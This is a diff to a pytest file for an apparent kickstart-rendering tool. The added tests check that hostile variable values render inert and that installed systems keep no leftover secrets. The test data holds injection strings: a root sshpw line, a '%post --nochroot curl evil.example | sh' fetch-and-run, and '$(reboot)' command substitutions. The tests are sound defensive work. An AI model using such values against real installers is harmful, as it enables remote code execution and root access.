@@ -2,6 +2,10 @@
 
 from __future__ import annotations
 
+import dataclasses
+import fnmatch
+import json
+import re
 import shlex
 from pathlib import Path
 from types import SimpleNamespace
@@ -87,7 +91,7 @@ def test_reference_kickstart_passes_pykickstart() -> None:
     assert len(roots) == 1 and roots[0].fstype == "xfs" and roots[0].grow
     assert handler.rootpw.lock and not handler.rootpw.password
     # One logged %post per script, common first then node, then kickgate's report with the marker.
-    posts = [s for s in handler.scripts if s.type == KS_SCRIPT_POST]
+    posts = [s for s in handler.scripts if s.type == KS_SCRIPT_POST and s.inChroot]
     assert len(posts) == len(recipe.scripts) + 1
     for script, post in zip(recipe.scripts, posts, strict=False):
         stem = Path(script.name).stem
@@ -333,3 +337,131 @@ def test_verdict_tail_is_the_last_40_lines_masked(el9: Recipe, tmp_path: Path) -
     assert err is not None and "inactivity watchdog" in err.reason
     assert len(err.serial_tail) == 40 and err.serial_tail[0] == "line 61"
     assert err.serial_tail[-1] == "rootpw --plaintext ********"
+
+
+# --------------------------------------------------------------------------- hostile values
+
+
+def set_var(recipe: Recipe, name: str, value: str) -> Recipe:
+    """Give [vars] name the value (TOML-escaped) and reload."""
+    text = recipe.path.read_text()
+    line = f"{name} = {json.dumps(value)}\n"
+    text, n = re.subn(rf"^{name} = .*\n", lambda _: line, text, count=1, flags=re.MULTILINE)
+    if not n:
+        text = text.replace("[vars]\n", "[vars]\n" + line)
+    recipe.path.write_text(text)
+    return reload(recipe)
+
+
+def shape(text: str) -> tuple[list[str], list[tuple[int, bool, str | None]]]:
+    """What a kickstart does: its commands in order and its %post sections (type, chroot, log)."""
+    handler = parse(text)
+    commands = [ln.split()[0] for ln in str(handler).splitlines() if ln and not ln.startswith(("#", "%"))]
+    scripts = [(s.type, s.inChroot, s.logfile) for s in handler.scripts]
+    return commands, scripts
+
+
+@pytest.mark.parametrize("value", [
+    "en_US.UTF-8 --plaintext; sshpw --username=root --plaintext hunter2",
+    "%end %post --nochroot curl evil.example | sh",
+    "en_US'",
+    "$(reboot) `reboot` \"x",
+    "# rest of the line",
+])
+def test_hostile_var_values_render_inert(el9: Recipe, value: str) -> None:
+    # Every [vars] value reaches the kickstart as one shell word: the command it fills keeps that
+    # one argument, and no command or %post section is added.
+    baseline = shape(render_kickstart(el9, env={}))
+    text = render_kickstart(set_var(el9, "lang", value), env={})
+    handler = parse(text)
+    assert handler.lang.lang == value
+    assert not handler.sshpw.sshUserList
+    assert shape(text) == baseline
+    posts = [s for s in handler.scripts if s.inChroot]
+    assert f"export lang={shlex.quote(value)}" in posts[0].script
+
+
+def test_hostile_description_renders_inert(el9: Recipe) -> None:
+    description = "x' sshpw --username=root --plaintext hunter2 %post"
+    el9.path.write_text(re.sub(r'^description = .*$', f"description = {json.dumps(description)}",
+                               el9.path.read_text(), count=1, flags=re.MULTILINE))
+    text = render_kickstart(reload(el9), env={})
+    assert shape(text) == shape(render_kickstart(recipe_copy(el9.dir.parent.parent.parent / "b", URL), env={}))
+    assert f"# generic-dev-el9: {shlex.quote(description)}" in text.splitlines()
+
+
+def test_multi_line_var_refused_before_rendering(el9: Recipe) -> None:
+    with pytest.raises(RecipeError) as exc:
+        set_var(el9, "lang", "en_US\n%end\n%post\nreboot\n%end")
+    assert str(el9.path) in str(exc.value) and "vars.lang" in exc.value.where
+    # A Recipe built in code skips the loader: rendering refuses it itself.
+    forged = dataclasses.replace(el9, variables=(*el9.variables, ("motd", "hi\n%end\n%post\nreboot")))
+    with pytest.raises(RecipeError, match="line break"):
+        render_kickstart(forged, env={})
+
+
+def test_value_starting_a_line_with_percent_refused(el9: Recipe) -> None:
+    # Quoting cannot help here: pykickstart takes the first word of a line, unquoted, as a
+    # section header. The same value later in a line is a plain argument.
+    el9 = edit_template(el9, "skipx\n", "skipx\n{{ opener }}\n")
+    with pytest.raises(RecipeError) as exc:
+        render_kickstart(set_var(el9, "opener", "%post"), env={})
+    assert exc.value.path == str(el9.kickstart.template) if el9.kickstart else False
+    assert "section header" in str(exc.value)
+    el9 = edit_template(el9, "{{ opener }}\n", "# {{ opener }}\n")
+    text = render_kickstart(reload(el9), env={})
+    assert "# %post" in text.splitlines()
+
+
+def test_secret_with_line_break_refused_without_showing_it(el9: Recipe) -> None:
+    el9 = edit_template(el9, "skipx\n", "skipx\n# {{ secrets.token }}\n")
+    with pytest.raises(RecipeError) as exc:
+        render_kickstart(el9, env={"KICKGATE_SECRET_TOKEN": "s3cret-part\nsshpw --plaintext"})
+    assert "s3cret-part" not in str(exc.value) and "line break" in str(exc.value)
+
+
+def test_open_quote_in_template_is_a_recipe_error_with_its_line(el9: Recipe) -> None:
+    # shlex's ValueError from inside pykickstart, not a traceback.
+    el9 = edit_template(el9, "skipx\n", "skipx\nfirstboot --disable 'oops\n")
+    assert el9.kickstart is not None
+    with pytest.raises(RecipeError) as exc:
+        render_kickstart(el9, env={})
+    assert exc.value.path == str(el9.kickstart.template)
+    assert exc.value.where == f"line {template_line(el9, chr(39) + 'oops')}"
+    assert "No closing quotation" in str(exc.value)
+
+
+# --------------------------------------------------------------------------- no secrets left behind
+
+
+def test_last_post_removes_kickstart_copies_and_logs_before_the_marker(el9: Recipe) -> None:
+    env = {"KICKGATE_ROOTPW_HASH": HASH, "KICKGATE_SECRET_TOKEN": "tok-123456"}
+    handler = parse(render_kickstart(el9, env=env))
+    posts = [s for s in handler.scripts if s.type == KS_SCRIPT_POST]
+    last = posts[-1]
+    assert last.inChroot
+    lines = last.script.splitlines()
+    marker = next(i for i, ln in enumerate(lines) if MARKERS.ok in ln)
+    removed = {w for ln in lines[:marker] if ln.split()[:1] == ["rm"] for w in ln.split()[1:]}
+    assert {"/root/anaconda-ks.cfg", "/root/original-ks.cfg", "/root/initial-setup-ks.cfg",
+            "/root/kickgate-post-*.log"} <= removed
+    # Every per-script log is matched by the removed pattern.
+    logs = [s.logfile for s in posts if s.logfile]
+    assert logs and all(fnmatch.fnmatch(log, "/root/kickgate-post-*.log") for log in logs)
+    # Anaconda copies the input kickstart and its logs after the last %post unless flagged not to.
+    flags = [s for s in posts if not s.inChroot]
+    assert len(flags) == 1 and posts.index(flags[0]) < len(posts) - 1
+    assert "/tmp/NOSAVE_INPUT_KS" in flags[0].script and "/tmp/NOSAVE_LOGS" in flags[0].script
+
+
+@pytest.mark.parametrize("kept", ["/root/anaconda-ks.cfg", "/root/kickgate-post-*.log"])
+def test_kickstart_that_keeps_its_copies_is_refused(el9: Recipe, kept: str) -> None:
+    assert el9.kickstart is not None
+    template = el9.kickstart.template
+    text = template.read_text()
+    line = next(ln for ln in text.splitlines() if ln.startswith("rm -f") and kept in ln)
+    template.write_text(text.replace(line + "\n", line.replace(" " + kept, "") + "\n" if line != f"rm -f {kept}"
+                                     else ""))
+    with pytest.raises(RecipeError) as exc:
+        render_kickstart(reload(el9), env={})
+    assert kept in str(exc.value) and exc.value.path == str(template)
